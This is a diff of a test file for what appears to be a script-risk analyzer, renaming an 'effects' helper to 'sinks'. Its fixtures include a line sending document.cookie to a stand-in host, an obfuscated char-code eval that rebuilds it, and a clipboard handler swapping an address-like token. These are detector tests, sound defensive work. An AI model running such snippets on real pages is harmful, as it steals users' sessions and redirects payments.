@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { analyzeScript } from "../analyze-script.ts";
-import { effectsOf, traceOf } from "../testing/trace-of.ts";
+import { sinksOf, traceOf } from "../testing/trace-of.ts";
 
 const PROGRAM = `fetch("https://c.test/?" + document.cookie)`;
 const CODES = [...PROGRAM].map((sign) => sign.charCodeAt(0));
@@ -31,7 +31,7 @@ describe("decoders", () => {
 			`const rows = []; const codes = [${CODES.join()}]; for (let at = 0; at < codes.length; at += 4) rows.push(codes.slice(at, at + 4)); eval(rows.map((row) => String.fromCharCode(...row)).join(""));`,
 		],
 	])("%s", (_title, code) => {
-		expect(effectsOf(code)).toContainEqual(expect.stringMatching(/^request fetch > third-party c\.test < url cookie/));
+		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^request fetch > third-party c\.test < url cookie/));
 		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
 	});
 
@@ -47,9 +47,9 @@ describe("decoders", () => {
 
 describe("a text nobody knows", () => {
 	test("keeps what is put in place of a part of it", () => {
-		const { effects } = traceOf(
+		const { sinks } = traceOf(
 			`document.addEventListener("copy", (event) => { GM_setClipboard(JSON.parse(localStorage.x).text.replace(/T\\w{33}/, "REPLACED")); });`,
 		);
-		expect(effects.flatMap(({ details }) => details.text ?? [])).toContainEqual(expect.stringContaining("REPLACED"));
+		expect(sinks.flatMap(({ details }) => details.text ?? [])).toContainEqual(expect.stringContaining("REPLACED"));
 	});
 });
